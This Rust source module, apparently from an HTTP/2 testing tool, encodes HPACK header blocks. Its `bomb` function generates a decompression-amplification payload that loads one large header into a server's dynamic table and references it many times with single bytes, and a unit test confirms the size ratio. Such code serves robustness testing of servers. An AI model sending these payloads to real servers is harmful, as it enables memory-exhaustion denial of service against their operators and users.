//! The least of HPACK that carries any bytes: literals without a table (RFC 7541 section 6.2.2).

use crate::prefixed::put_text;

/// A field section of literals that leave no trace in the server's table, without Huffman code,
/// so that any bytes can be played.
#[must_use]
pub fn literal(fields: &[(Vec<u8>, Vec<u8>)]) -> Vec<u8> {
    let mut out = Vec::new();
    for (name, value) in fields {
        out.push(0);
        put_text(&mut out, 0, 7, name);
        put_text(&mut out, 0, 7, value);
    }
    out
}

/// A field section that puts one field of `length` bytes into the server's table and then asks
/// for it `count` times, each time with a single byte (RFC 7541 section 7.3).
#[must_use]
pub fn bomb(fields: &[(Vec<u8>, Vec<u8>)], length: usize, count: usize) -> Vec<u8> {
    let mut out = literal(fields);
    out.push(0x40);
    put_text(&mut out, 0, 7, b"a");
    put_text(&mut out, 0, 7, &vec![b'b'; length]);
    // The newest entry of the dynamic table follows the 61 of the static one.
    out.resize(out.len() + count, 0x80 | 62);
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn what_is_written_is_read_again() {
        let fields = vec![
            (b":path".to_vec(), b"/\xff\0".to_vec()),
            (b"A b".to_vec(), vec![b'x'; 300]),
        ];
        let read = loona_hpack::Decoder::new().decode(&literal(&fields));
        assert_eq!(read.unwrap(), fields);
        let bomb = bomb(&fields, 4000, 100);
        let read = loona_hpack::Decoder::new().decode(&bomb).unwrap();
        assert_eq!(read.len(), 2 + 101);
        assert!(bomb.len() < 4600);
    }
}
